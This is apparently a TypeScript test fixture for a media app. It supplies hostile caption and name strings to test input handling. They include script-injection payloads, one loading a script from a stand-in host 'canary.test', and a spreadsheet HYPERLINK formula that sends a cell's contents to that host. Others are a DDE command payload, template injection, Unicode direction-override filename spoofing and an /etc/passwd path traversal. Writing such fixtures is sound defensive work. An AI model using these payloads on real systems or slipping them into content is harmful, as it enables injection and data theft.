import type { MediaItem } from '../media-item.ts';

/** What an attacker would write into a caption. */
const hostileTexts = [
  `<img src=x onerror="alert(1)"><svg/onload=alert(2)>{{7*7}}</script><script src=//canary.test/a.js></script>`,
  `=HYPERLINK("https://canary.test/?"&A1,"win")`,
  '+cmd|" /C calc"!A0',
  '@SUM(1+1)*cmd',
  '-2+3\tand a tab',
  '＝1+1 in full width',
  'safe \u202Egpj.exe\u202C and \u2066isolated\u2069',
  'in\u200Bvis\u200Di\uFEFFble',
  '👩‍👩‍👧‍👦🏳️‍🌈🫶🏽 Z̸̡̧̛͚̱̭̺͖͇̈́̐a̷͗lgo',
  `"quoted", 'single', two\nlines\r\nand \`three\``,
  `%s %n \${7*7} {{constructor.constructor('alert(3)')()}} ../../etc/passwd`,
  'a NUL \0, and half of a pair \ud83d',
  'x'.repeat(2_200),
];

export function hostileCaption({ day, slot }: MediaItem): string {
  return hostileTexts[(day * 5 + slot) % hostileTexts.length] ?? '';
}

export const hostileName = `<b onmouseover="alert(4)">=1+1</b>\u202Egpj.\u202C`;
